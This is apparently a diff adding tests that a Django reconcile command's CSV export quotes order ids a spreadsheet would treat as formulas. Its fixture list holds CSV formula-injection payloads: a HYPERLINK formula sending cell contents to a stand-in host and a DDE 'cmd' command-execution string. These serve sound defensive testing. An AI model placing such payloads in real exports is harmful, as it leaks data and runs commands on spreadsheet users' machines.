@@ -24,6 +24,7 @@ from tiktok_tracking.models import TrackedEvent
 from tiktok_tracking.reconcile import PaidOrders, ReconcileLine, reconcile_lines
 from tiktok_tracking.resend import ALREADY_QUEUED, NO_PAYLOAD, TOO_OLD, refusal_reason
 from tiktok_tracking.sandbox.validation import validate_payload
+from tiktok_tracking.spreadsheet import spreadsheet_safe
 
 Status = TrackedEvent.Status
 TOKEN = "test-access-token-0123456789"
@@ -495,6 +496,64 @@ def test_reconcile_csv(shop):
         "missing",
     ]
     assert {row[0]: [int(n) for n in row[1:]] for row in rows[1:]} == EXPECTED
+
+
+HOSTILE_ORDER_IDS = [
+    # The shop's order numbers fit 32 characters (PostgreSQL enforces it).
+    '=HYPERLINK("//e.example/"&A1)',
+    "@SUM(A1:A9)",
+    "+1+1",
+    "-2",
+    "=cmd|' /C calc'!A0",
+]
+
+
+@pytest.fixture
+def hostile_orders(db):
+    """Paid orders never recorded, whose ids a spreadsheet would read as formulas."""
+    for number in HOSTILE_ORDER_IDS:
+        make_paid_order(number, "DE")
+
+
+@pytest.mark.django_db
+def test_reconcile_csv_writes_formula_order_ids_as_text(hostile_orders):
+    out, _err = run("tiktok_reconcile", "--format", "csv", "--show-missing", "10")
+    missing = list(csv.reader(io.StringIO(out.split("\n\n")[1])))
+    assert missing[0] == ["order_id", "country"]
+    # Each id is written whole, behind the quote a spreadsheet reads as "text".
+    assert sorted(row[0] for row in missing[1:]) == sorted(f"'{i}" for i in HOSTILE_ORDER_IDS)
+    for row in csv.reader(io.StringIO(out)):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+
+
+@pytest.mark.django_db
+def test_reconcile_json_keeps_formula_order_ids_unchanged(hostile_orders):
+    out, _err = run("tiktok_reconcile", "--format", "json", "--show-missing", "10")
+    listed = sorted(m["order_id"] for m in json.loads(out)["missing"])
+    assert listed == sorted(HOSTILE_ORDER_IDS)
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\0=1", "'\0=1"),
+        ("DE1", "DE1"),
+        ("a=1", "a=1"),
+        ("'=1", "'=1"),
+        ("", ""),
+        (None, ""),
+        (7, "7"),
+        (-7, "'-7"),
+    ],
+)
+def test_spreadsheet_safe_quotes_only_cells_a_spreadsheet_would_evaluate(value, cell):
+    assert spreadsheet_safe(value) == cell
 
 
 @pytest.mark.django_db
